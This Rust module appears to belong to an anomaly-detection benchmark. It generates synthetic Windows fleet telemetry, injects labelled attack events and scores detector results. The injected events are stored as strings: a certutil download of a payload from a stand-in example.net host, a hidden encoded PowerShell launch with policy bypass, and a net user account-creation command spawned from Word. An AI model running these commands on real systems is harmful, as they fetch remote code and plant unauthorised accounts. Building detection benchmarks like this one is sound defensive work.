//! Synthetic fleet workloads and red-team injections.
//!
//! The harness produces two things from a declarative scenario: a baseline
//! of realistic process-creation telemetry (assets running a weighted mix
//! of administrative commands day after day, plus scheduled per-asset
//! maintenance jobs), and a set of injected attack events with ground-truth
//! labels. Everything is driven by seeded generators, so a scenario is a
//! reproducible benchmark: same spec, same log, byte for byte.

use chrono::{DateTime, Duration, NaiveDate, Utc};
use rand::Rng;
use rand::SeedableRng;
use rand_chacha::ChaCha12Rng;
use serde::{Deserialize, Serialize};
use std::collections::BTreeMap;

use crate::error::{Error, Result};
use crate::telemetry::{EventRef, ProcessEvent, PROCESS_CREATION_EVENT_ID};
use crate::verdict::{Classification, Verdict};

/// How often a template fires.
#[derive(Debug, Clone, Copy, PartialEq, Serialize, Deserialize)]
#[serde(tag = "kind", rename_all = "snake_case")]
pub enum Cadence {
    /// Drawn per event with probability proportional to `weight`.
    Weighted,
    /// Exactly once per asset per day, at the scheduled hour, always by
    /// the same operator for a given asset.
    DailyPerAsset { hour: u32 },
}

/// Which accounts run a template.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
#[serde(rename_all = "snake_case")]
pub enum UserPool {
    Admin,
    Service,
    Any,
}

/// One kind of baseline command.
///
/// Text fields may contain `{asset}`, `{user}`, `{day}` placeholders and
/// `{pick:a|b|c}` for a seeded choice among fixed variants.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub struct CommandTemplate {
    pub label: String,
    pub parent: String,
    pub process: String,
    pub command_line: String,
    pub file_path: String,
    pub weight: f64,
    pub cadence: Cadence,
    pub users: UserPool,
}

/// Declarative description of a fleet's baseline activity.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub struct WorkloadSpec {
    pub n_assets: u32,
    pub n_users: u32,
    pub days: u32,
    pub start_day: NaiveDate,
    /// Mean weighted-template executions per asset per day.
    pub commands_per_asset_per_day: u32,
    /// Relative day-to-day volume wobble, in [0, 1).
    pub jitter: f64,
    pub seed: u64,
    pub baseline_commands: Vec<CommandTemplate>,
}

impl WorkloadSpec {
    pub fn validate(&self) -> Result<()> {
        if self.n_assets == 0 || self.n_users == 0 || self.days == 0 {
            return Err(Error::Scenario(
                "assets, users and days must all be at least 1".into(),
            ));
        }
        if self.commands_per_asset_per_day == 0 {
            return Err(Error::Scenario(
                "commands_per_asset_per_day must be at least 1".into(),
            ));
        }
        if !self.jitter.is_finite() || !(0.0..1.0).contains(&self.jitter) {
            return Err(Error::Scenario(format!(
                "jitter must be in [0, 1), got {}",
                self.jitter
            )));
        }
        if self.baseline_commands.is_empty() {
            return Err(Error::Scenario("no baseline command templates".into()));
        }
        let mut weighted = 0usize;
        for template in &self.baseline_commands {
            if template.process.trim().is_empty() || template.command_line.trim().is_empty() {
                return Err(Error::Scenario(format!(
                    "template '{}' needs a process and a command line",
                    template.label
                )));
            }
            if matches!(template.cadence, Cadence::Weighted) {
                weighted += 1;
                if !template.weight.is_finite() || template.weight <= 0.0 {
                    return Err(Error::Scenario(format!(
                        "template '{}' has non-positive weight",
                        template.label
                    )));
                }
            }
            if template.users == UserPool::Service && self.service_users().is_empty() {
                return Err(Error::Scenario(format!(
                    "template '{}' targets service accounts but the fleet has none",
                    template.label
                )));
            }
        }
        if weighted == 0 {
            return Err(Error::Scenario(
                "at least one weighted template is required".into(),
            ));
        }
        Ok(())
    }

    pub fn asset_name(&self, index: u32) -> String {
        format!("ASSET-{:02}", index + 1)
    }

    pub fn assets(&self) -> Vec<String> {
        (0..self.n_assets).map(|i| self.asset_name(i)).collect()
    }

    /// Two thirds of accounts are administrators, the rest are service
    /// accounts (at least one admin).
    pub fn admin_users(&self) -> Vec<String> {
        let n = ((self.n_users * 2).div_ceil(3)).max(1);
        (0..n).map(|i| format!("Admin{:02}", i + 1)).collect()
    }

    pub fn service_users(&self) -> Vec<String> {
        let admins = ((self.n_users * 2).div_ceil(3)).max(1);
        (admins..self.n_users)
            .map(|i| format!("svc{:02}", i - admins + 1))
            .collect()
    }

    fn day(&self, offset: u32) -> NaiveDate {
        self.start_day + Duration::days(i64::from(offset))
    }
}

/// SplitMix64 finalizer, for deriving independent per-asset generators.
fn derive_seed(seed: u64, index: u64) -> u64 {
    let mut z = seed.wrapping_add(index.wrapping_add(1).wrapping_mul(0x9E37_79B9_7F4A_7C15));
    z = (z ^ (z >> 30)).wrapping_mul(0xBF58_476D_1CE4_E5B9);
    z = (z ^ (z >> 27)).wrapping_mul(0x94D0_49BB_1331_11EB);
    z ^ (z >> 31)
}

/// Expands `{asset}`, `{user}`, `{day}` and `{pick:a|b|c}` placeholders.
fn expand(
    template: &str,
    asset: &str,
    user: &str,
    day: NaiveDate,
    rng: &mut ChaCha12Rng,
) -> String {
    let mut out = template
        .replace("{asset}", asset)
        .replace("{user}", user)
        .replace("{day}", &day.format("%Y-%m-%d").to_string());
    while let Some(start) = out.find("{pick:") {
        let Some(rel_end) = out[start..].find('}') else {
            break;
        };
        let end = start + rel_end;
        let options: Vec<&str> = out[start + 6..end].split('|').collect();
        let choice = options[rng.gen_range(0..options.len())].to_string();
        out.replace_range(start..=end, &choice);
    }
    out
}

fn at_second(day: NaiveDate, second_of_day: u32) -> DateTime<Utc> {
    day.and_hms_opt(
        second_of_day / 3600,
        (second_of_day / 60) % 60,
        second_of_day % 60,
    )
    .expect("second_of_day below 86400")
    .and_utc()
}

fn event_at(
    timestamp: DateTime<Utc>,
    user: &str,
    asset: &str,
    parent: &str,
    process: &str,
    command_line: String,
    file_path: String,
) -> ProcessEvent {
    ProcessEvent {
        timestamp,
        event_id: PROCESS_CREATION_EVENT_ID,
        account_name: user.to_string(),
        account_domain: "CORP".to_string(),
        device_id: asset.to_string(),
        parent_process_name: parent.to_string(),
        process_name: process.to_string(),
        command_line,
        file_path,
    }
}

fn pool_users<'s>(
    spec_admins: &'s [String],
    spec_services: &'s [String],
    pool: UserPool,
) -> Vec<&'s String> {
    match pool {
        UserPool::Admin => spec_admins.iter().collect(),
        UserPool::Service => spec_services.iter().collect(),
        UserPool::Any => spec_admins.iter().chain(spec_services.iter()).collect(),
    }
}

/// Generates the baseline fleet telemetry for a workload spec.
///
/// Events are sorted by timestamp (ties keep generation order). Each asset
/// has its own generator derived from the spec seed, so the output is
/// invariant to how assets would be distributed across threads.
pub fn generate_workload(spec: &WorkloadSpec) -> Result<Vec<ProcessEvent>> {
    spec.validate()?;
    let admins = spec.admin_users();
    let services = spec.service_users();

    let weighted: Vec<(usize, &CommandTemplate)> = spec
        .baseline_commands
        .iter()
        .enumerate()
        .filter(|(_, t)| matches!(t.cadence, Cadence::Weighted))
        .collect();
    let total_weight: f64 = weighted.iter().map(|(_, t)| t.weight).sum();

    let mut events: Vec<ProcessEvent> = Vec::new();
    for asset_idx in 0..spec.n_assets {
        let asset = spec.asset_name(asset_idx);
        let mut rng = ChaCha12Rng::seed_from_u64(derive_seed(spec.seed, u64::from(asset_idx)));
        for day_offset in 0..spec.days {
            let day = spec.day(day_offset);

            // Scheduled maintenance fires first; its operator is fixed per
            // asset so the history profile stays stable.
            for (t_idx, template) in spec.baseline_commands.iter().enumerate() {
                let Cadence::DailyPerAsset { hour } = template.cadence else {
                    continue;
                };
                let pool = pool_users(&admins, &services, template.users);
                let user = pool[(asset_idx as usize + t_idx) % pool.len()];
                let second = (hour % 24) * 3600 + rng.gen_range(0..3600);
                let command_line = expand(&template.command_line, &asset, user, day, &mut rng);
                let file_path = expand(&template.file_path, &asset, user, day, &mut rng);
                events.push(event_at(
                    at_second(day, second),
                    user,
                    &asset,
                    &template.parent,
                    &template.process,
                    command_line,
                    file_path,
                ));
            }

            let base = f64::from(spec.commands_per_asset_per_day);
            let factor = if spec.jitter > 0.0 {
                1.0 + rng.gen_range(-spec.jitter..=spec.jitter)
            } else {
                1.0
            };
            let count = (base * factor).round().max(1.0) as u32;
            for _ in 0..count {
                let mut draw = rng.gen_range(0.0..total_weight);
                let mut chosen = weighted[weighted.len() - 1].1;
                for (_, template) in &weighted {
                    if draw < template.weight {
                        chosen = template;
                        break;
                    }
                    draw -= template.weight;
                }
                let pool = pool_users(&admins, &services, chosen.users);
                let user = pool[rng.gen_range(0..pool.len())];
                // Interactive admin work clusters in business hours;
                // service accounts run around the clock.
                let second = match chosen.users {
                    UserPool::Service => rng.gen_range(0..86_400),
                    _ => 8 * 3600 + rng.gen_range(0..10 * 3600),
                };
                let command_line = expand(&chosen.command_line, &asset, user, day, &mut rng);
                let file_path = expand(&chosen.file_path, &asset, user, day, &mut rng);
                events.push(event_at(
                    at_second(day, second),
                    user,
                    &asset,
                    &chosen.parent,
                    &chosen.process,
                    command_line,
                    file_path,
                ));
            }
        }
    }

    sort_stable_by_time(&mut events);
    Ok(events)
}

fn sort_stable_by_time(events: &mut [ProcessEvent]) {
    // Stable sort: equal timestamps keep generation order.
    events.sort_by_key(|e| e.timestamp);
}

/// The anomaly patterns the harness can inject.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Serialize, Deserialize, Hash)]
#[serde(rename_all = "snake_case")]
pub enum AttackKind {
    /// A familiar scheduled command with a small variation in its target
    /// path.
    PathVariation,
    /// A binary the fleet has never run.
    RareBinary,
    /// A common binary with a parameter combination never seen before.
    UnusualParameterCombo,
    /// Another asset's scheduled command executed on the wrong asset.
    WrongAsset,
    /// A common-looking command spawned by a parent process that never
    /// spawns it.
    UnexpectedParent,
    /// Many executions of the same moderately rare command in a tight
    /// window.
    BurstExecutions,
}

impl AttackKind {
    pub fn as_str(self) -> &'static str {
        match self {
            AttackKind::PathVariation => "path_variation",
            AttackKind::RareBinary => "rare_binary",
            AttackKind::UnusualParameterCombo => "unusual_parameter_combo",
            AttackKind::WrongAsset => "wrong_asset",
            AttackKind::UnexpectedParent => "unexpected_parent",
            AttackKind::BurstExecutions => "burst_executions",
        }
    }
}

/// One planned injection.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub struct AttackTemplate {
    pub kind: AttackKind,
    /// 0-based day offset from the workload start.
    pub day_offset: u32,
    pub target_asset: String,
    pub target_user: String,
    /// Events to emit; meaningful for bursts, 1 otherwise.
    pub count: u32,
}

/// Ground-truth label for one injected event.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct GroundTruthEntry {
    pub event_ref: EventRef,
    pub kind: AttackKind,
}

const B64_ALPHABET: &[u8] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789";

fn random_blob(rng: &mut ChaCha12Rng, len: usize) -> String {
    (0..len)
        .map(|_| B64_ALPHABET[rng.gen_range(0..B64_ALPHABET.len())] as char)
        .collect()
}

/// Appends a marker to the most path-like token of a command line, leaving
/// the rest untouched.
fn perturb_path(command_line: &str) -> String {
    let tokens: Vec<&str> = command_line.split_whitespace().collect();
    let target = tokens
        .iter()
        .enumerate()
        .filter(|(_, t)| t.contains('\\') || t.contains('/') || t.contains(':'))
        .max_by_key(|(_, t)| t.len())
        .map(|(i, _)| i)
        .unwrap_or(tokens.len().saturating_sub(1));
    tokens
        .iter()
        .enumerate()
        .map(|(i, t)| {
            if i == target {
                format!("{t}-stage")
            } else {
                (*t).to_string()
            }
        })
        .collect::<Vec<_>>()
        .join(" ")
}

fn scheduled_template(spec: &WorkloadSpec) -> Result<(usize, &CommandTemplate)> {
    spec.baseline_commands
        .iter()
        .enumerate()
        .find(|(_, t)| matches!(t.cadence, Cadence::DailyPerAsset { .. }))
        .ok_or_else(|| {
            Error::Scenario(
                "this attack kind mimics a scheduled command, but the workload has none".into(),
            )
        })
}

fn build_attack_events(
    spec: &WorkloadSpec,
    template: &AttackTemplate,
    rng: &mut ChaCha12Rng,
) -> Result<Vec<ProcessEvent>> {
    let assets = spec.assets();
    if !assets.contains(&template.target_asset) {
        return Err(Error::Scenario(format!(
            "target asset '{}' is not in the fleet",
            template.target_asset
        )));
    }
    let all_users: Vec<String> = spec
        .admin_users()
        .into_iter()
        .chain(spec.service_users())
        .collect();
    if !all_users.contains(&template.target_user) {
        return Err(Error::Scenario(format!(
            "target user '{}' is not in the fleet",
            template.target_user
        )));
    }
    if template.day_offset >= spec.days {
        return Err(Error::Scenario(format!(
            "day offset {} is outside the {}-day workload",
            template.day_offset, spec.days
        )));
    }
    if template.count == 0 {
        return Err(Error::Scenario("attack count must be at least 1".into()));
    }

    let day = spec.day(template.day_offset);
    let asset = template.target_asset.as_str();
    let user = template.target_user.as_str();
    let second = 9 * 3600 + rng.gen_range(0..9 * 3600);

    let mut events = Vec::new();
    match template.kind {
        AttackKind::RareBinary => {
            let tag = random_blob(rng, 6).to_lowercase();
            events.push(event_at(
                at_second(day, second),
                user,
                asset,
                "cmd.exe",
                "certutil.exe",
                format!(
                    "certutil.exe -urlcache -split -f http://cdn-sync-{tag}.example.net/update.bin C:\\Users\\Public\\update-{tag}.bin"
                ),
                "C:\\Windows\\System32\\certutil.exe".to_string(),
            ));
        }
        AttackKind::UnusualParameterCombo => {
            let blob = random_blob(rng, 28);
            events.push(event_at(
                at_second(day, second),
                user,
                asset,
                "explorer.exe",
                "powershell.exe",
                format!("powershell.exe -nop -w hidden -ep bypass -enc {blob}"),
                "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe".to_string(),
            ));
        }
        AttackKind::WrongAsset => {
            if spec.n_assets < 2 {
                return Err(Error::Scenario(
                    "wrong-asset attacks need at least two assets".into(),
                ));
            }
            let (_, source_template) = scheduled_template(spec)?;
            let target_idx = assets
                .iter()
                .position(|a| a == asset)
                .expect("target asset validated above");
            let source_asset = &assets[(target_idx + 1) % assets.len()];
            let command_line = expand(&source_template.command_line, source_asset, user, day, rng);
            let file_path = expand(&source_template.file_path, source_asset, user, day, rng);
            events.push(event_at(
                at_second(day, second),
                user,
                asset,
                &source_template.parent,
                &source_template.process,
                command_line,
                file_path,
            ));
        }
        AttackKind::PathVariation => {
            let (_, source_template) = scheduled_template(spec)?;
            let command_line = perturb_path(&expand(
                &source_template.command_line,
                asset,
                user,
                day,
                rng,
            ));
            let file_path = expand(&source_template.file_path, asset, user, day, rng);
            events.push(event_at(
                at_second(day, second),
                user,
                asset,
                &source_template.parent,
                &source_template.process,
                command_line,
                file_path,
            ));
        }
        AttackKind::UnexpectedParent => {
            events.push(event_at(
                at_second(day, second),
                user,
                asset,
                "WINWORD.EXE",
                "cmd.exe",
                "cmd.exe /c net user helpdesk_tmp Chang3me!201 /add".to_string(),
                "C:\\Windows\\System32\\cmd.exe".to_string(),
            ));
        }
        AttackKind::BurstExecutions => {
            // Tight spacing: the whole burst lands inside a few minutes.
            let start = second.min(86_400 - template.count * 13 - 1);
            for i in 0..template.count {
                events.push(event_at(
                    at_second(day, start + i * 13),
                    user,
                    asset,
                    "cmd.exe",
                    "vssadmin.exe",
                    "vssadmin.exe list shadows /for=c:".to_string(),
                    "C:\\Windows\\System32\\vssadmin.exe".to_string(),
                ));
            }
        }
    }
    Ok(events)
}

/// Splices attack events into a baseline and reports, for each injected
/// event, its reference in the merged, time-sorted log.
///
/// References assume the merged log is ingested as-is (every record
/// well-formed and process-creation), so a reference is simply the event's
/// final position.
pub fn inject_attacks(
    spec: &WorkloadSpec,
    baseline: Vec<ProcessEvent>,
    attacks: &[AttackTemplate],
    seed: u64,
) -> Result<(Vec<ProcessEvent>, Vec<GroundTruthEntry>)> {
    struct Tagged {
        event: ProcessEvent,
        kind: Option<AttackKind>,
        seq: usize,
    }

    let mut tagged: Vec<Tagged> = baseline
        .into_iter()
        .enumerate()
        .map(|(seq, event)| Tagged {
            event,
            kind: None,
            seq,
        })
        .collect();
    let mut seq = tagged.len();

    for (attack_idx, template) in attacks.iter().enumerate() {
        let mut rng = ChaCha12Rng::seed_from_u64(derive_seed(seed, attack_idx as u64));
        for event in build_attack_events(spec, template, &mut rng)? {
            tagged.push(Tagged {
                event,
                kind: Some(template.kind),
                seq,
            });
            seq += 1;
        }
    }

    tagged.sort_by(|a, b| {
        a.event
            .timestamp
            .cmp(&b.event.timestamp)
            .then_with(|| a.seq.cmp(&b.seq))
    });

    let mut events = Vec::with_capacity(tagged.len());
    let mut truth = Vec::new();
    for (position, item) in tagged.into_iter().enumerate() {
        if let Some(kind) = item.kind {
            truth.push(GroundTruthEntry {
                event_ref: EventRef(position as u64),
                kind,
            });
        }
        events.push(item.event);
    }
    Ok((events, truth))
}

/// A complete benchmark: baseline workload plus planned injections.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub struct Scenario {
    pub workload: WorkloadSpec,
    pub attacks: Vec<AttackTemplate>,
    pub attack_seed: u64,
}

impl Scenario {
    pub fn generate(&self) -> Result<(Vec<ProcessEvent>, Vec<GroundTruthEntry>)> {
        let baseline = generate_workload(&self.workload)?;
        inject_attacks(&self.workload, baseline, &self.attacks, self.attack_seed)
    }
}

/// Detection quality against ground truth.
///
/// An alert is a true-positive verdict; benign positives are suppressed by
/// design and count as non-alerts. The signal-to-noise ratio is the share
/// of alerts that are real attacks, which equals precision under this
/// alert definition.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub struct Metrics {
    pub true_positives: usize,
    pub false_positives: usize,
    pub false_negatives: usize,
    pub true_negatives: usize,
    pub precision: f64,
    pub recall: f64,
    pub snr: f64,
    pub alerts: usize,
    pub ground_truth_count: usize,
    /// Set when there were no alerts and no ground truth, making
    /// precision and recall vacuous (reported as 1.0 by convention).
    pub vacuous: bool,
    /// Detected/total per attack kind.
    pub per_kind: BTreeMap<String, KindRecall>,
}

#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct KindRecall {
    pub detected: usize,
    pub total: usize,
}

/// Scores a verdict set against ground truth.
///
/// Every ground-truth reference must appear in the verdicts; anything else
/// means the two files describe different runs.
pub fn evaluate(verdicts: &[Verdict], truth: &[GroundTruthEntry]) -> Result<Metrics> {
    use std::collections::{BTreeSet, HashMap};

    let verdict_refs: BTreeSet<EventRef> = verdicts.iter().map(|v| v.event_ref).collect();
    if verdict_refs.len() != verdicts.len() {
        return Err(Error::Coverage("duplicate verdict references".into()));
    }
    let mut truth_kinds: HashMap<EventRef, AttackKind> = HashMap::new();
    for entry in truth {
        if !verdict_refs.contains(&entry.event_ref) {
            return Err(Error::Coverage(format!(
                "ground-truth reference {} has no verdict",
                entry.event_ref
            )));
        }
        if truth_kinds.insert(entry.event_ref, entry.kind).is_some() {
            return Err(Error::Coverage(format!(
                "ground-truth reference {} appears twice",
                entry.event_ref
            )));
        }
    }

    let mut tp = 0usize;
    let mut fp = 0usize;
    let mut fn_count = 0usize;
    let mut tn = 0usize;
    let mut per_kind: BTreeMap<String, KindRecall> = BTreeMap::new();
    for entry in truth {
        per_kind
            .entry(entry.kind.as_str().to_string())
            .or_insert(KindRecall {
                detected: 0,
                total: 0,
            })
            .total += 1;
    }

    for verdict in verdicts {
        let alerted = verdict.classification == Classification::TruePositive;
        let is_attack = truth_kinds.get(&verdict.event_ref);
        match (alerted, is_attack) {
            (true, Some(kind)) => {
                tp += 1;
                per_kind
                    .get_mut(kind.as_str())
                    .expect("kind registered above")
                    .detected += 1;
            }
            (true, None) => fp += 1,
            (false, Some(_)) => fn_count += 1,
            (false, None) => tn += 1,
        }
    }

    let alerts = tp + fp;
    let vacuous = alerts == 0 && truth.is_empty();
    let precision = if alerts == 0 {
        1.0
    } else {
        tp as f64 / alerts as f64
    };
    let recall = if truth.is_empty() {
        1.0
    } else {
        tp as f64 / truth.len() as f64
    };
    Ok(Metrics {
        true_positives: tp,
        false_positives: fp,
        false_negatives: fn_count,
        true_negatives: tn,
        precision,
        recall,
        snr: precision,
        alerts,
        ground_truth_count: truth.len(),
        vacuous,
        per_kind,
    })
}

/// The bundled benchmark: a 20-asset fleet observed for a week, with
/// twelve single-event attacks spread over the last three days. Designed
/// so the default detection parameters separate attacks, routine
/// maintenance, and ordinary activity cleanly.
pub fn default_scenario() -> Scenario {
    let mk = |label: &str,
              parent: &str,
              process: &str,
              command_line: &str,
              file_path: &str,
              weight: f64,
              cadence: Cadence,
              users: UserPool| CommandTemplate {
        label: label.to_string(),
        parent: parent.to_string(),
        process: process.to_string(),
        command_line: command_line.to_string(),
        file_path: file_path.to_string(),
        weight,
        cadence,
        users,
    };

    let sys32 = "C:\\Windows\\System32";
    let baseline_commands = vec![
        mk(
            "service-inventory",
            "cmd.exe",
            "tasklist.exe",
            "tasklist /svc",
            &format!("{sys32}\\tasklist.exe"),
            1.0,
            Cadence::Weighted,
            UserPool::Admin,
        ),
        mk(
            "network-config",
            "cmd.exe",
            "ipconfig.exe",
            "ipconfig /all",
            &format!("{sys32}\\ipconfig.exe"),
            1.0,
            Cadence::Weighted,
            UserPool::Admin,
        ),
        mk(
            "service-state",
            "cmd.exe",
            "sc.exe",
            "sc query {pick:wuauserv|spooler|bits|winrm}",
            &format!("{sys32}\\sc.exe"),
            1.0,
            Cadence::Weighted,
            UserPool::Admin,
        ),
        mk(
            "open-ports",
            "cmd.exe",
            "netstat.exe",
            "netstat -ano",
            &format!("{sys32}\\netstat.exe"),
            1.0,
            Cadence::Weighted,
            UserPool::Admin,
        ),
        mk(
            "scheduled-tasks",
            "cmd.exe",
            "schtasks.exe",
            "schtasks /query /fo list",
            &format!("{sys32}\\schtasks.exe"),
            1.0,
            Cadence::Weighted,
            UserPool::Admin,
        ),
        mk(
            "log-listing",
            "explorer.exe",
            "cmd.exe",
            "cmd.exe /c dir C:\\Logs\\{pick:app|web|sys}",
            &format!("{sys32}\\cmd.exe"),
            1.0,
            Cadence::Weighted,
            UserPool::Admin,
        ),
        mk(
            "security-events",
            "cmd.exe",
            "wevtutil.exe",
            "wevtutil qe Security /c:50 /rd:true",
            &format!("{sys32}\\wevtutil.exe"),
            1.0,
            Cadence::Weighted,
            UserPool::Admin,
        ),
        mk(
            "time-status",
            "cmd.exe",
            "w32tm.exe",
            "w32tm /query /status",
            &format!("{sys32}\\w32tm.exe"),
            1.0,
            Cadence::Weighted,
            UserPool::Admin,
        ),
        mk(
            "service-health",
            "explorer.exe",
            "powershell.exe",
            "powershell.exe -command get-service {pick:spooler|bits|winrm}",
            &format!("{sys32}\\WindowsPowerShell\\v1.0\\powershell.exe"),
            1.0,
            Cadence::Weighted,
            UserPool::Admin,
        ),
        mk(
            "staging-sync",
            "cmd.exe",
            "robocopy.exe",
            "robocopy C:\\Staging \\\\filesrv01\\drop /mir /np",
            &format!("{sys32}\\Robocopy.exe"),
            1.0,
            Cadence::Weighted,
            UserPool::Admin,
        ),
        mk(
            "cpu-load",
            "cmd.exe",
            "wmic.exe",
            "wmic cpu get loadpercentage",
            &format!("{sys32}\\wbem\\WMIC.exe"),
            1.0,
            Cadence::Weighted,
            UserPool::Admin,
        ),
        mk(
            "group-membership",
            "cmd.exe",
            "whoami.exe",
            "whoami /groups",
            &format!("{sys32}\\whoami.exe"),
            1.0,
            Cadence::Weighted,
            UserPool::Admin,
        ),
        mk(
            "agent-poll",
            "services.exe",
            "fleetagent.exe",
            "fleetagent.exe --poll --interval 900",
            "C:\\Program Files\\FleetAgent\\fleetagent.exe",
            0.5,
            Cadence::Weighted,
            UserPool::Service,
        ),
        mk(
            "telemetry-heartbeat",
            "services.exe",
            "powershell.exe",
            "powershell.exe -file C:\\Scripts\\heartbeat.ps1",
            &format!("{sys32}\\WindowsPowerShell\\v1.0\\powershell.exe"),
            0.5,
            Cadence::Weighted,
            UserPool::Service,
        ),
        // Per-asset maintenance: globally rare vocabulary, locally routine.
        mk(
            "nightly-backup",
            "taskeng.exe",
            "backupcli.exe",
            "backupcli.exe /db corp-{asset} /dest \\\\bkupsrv\\{asset}$ /quiet",
            "C:\\Program Files\\BackupCli\\backupcli.exe",
            1.0,
            Cadence::DailyPerAsset { hour: 2 },
            UserPool::Admin,
        ),
        mk(
            "cert-refresh",
            "taskeng.exe",
            "certreq.exe",
            "certreq -q -retrieve {asset}-webcert C:\\Certs\\{asset}.cer",
            &format!("{sys32}\\certreq.exe"),
            1.0,
            Cadence::DailyPerAsset { hour: 3 },
            UserPool::Admin,
        ),
    ];

    let workload = WorkloadSpec {
        n_assets: 20,
        n_users: 15,
        days: 7,
        start_day: NaiveDate::from_ymd_opt(2025, 6, 2).expect("valid date"),
        commands_per_asset_per_day: 105,
        jitter: 0.1,
        seed: 0x00C0_FFEE,
        baseline_commands,
    };

    let kinds = [
        AttackKind::RareBinary,
        AttackKind::UnusualParameterCombo,
        AttackKind::WrongAsset,
        AttackKind::UnexpectedParent,
    ];
    let mut attacks = Vec::new();
    for (i, kind) in kinds.iter().cycle().take(12).enumerate() {
        attacks.push(AttackTemplate {
            kind: *kind,
            day_offset: 4 + (i as u32 % 3),
            target_asset: format!("ASSET-{:02}", (i * 2 + 3) % 20 + 1),
            target_user: format!("svc{:02}", i % 5 + 1),
            count: 1,
        });
    }

    Scenario {
        workload,
        attacks,
        attack_seed: 0x5EED_5EED,
    }
}
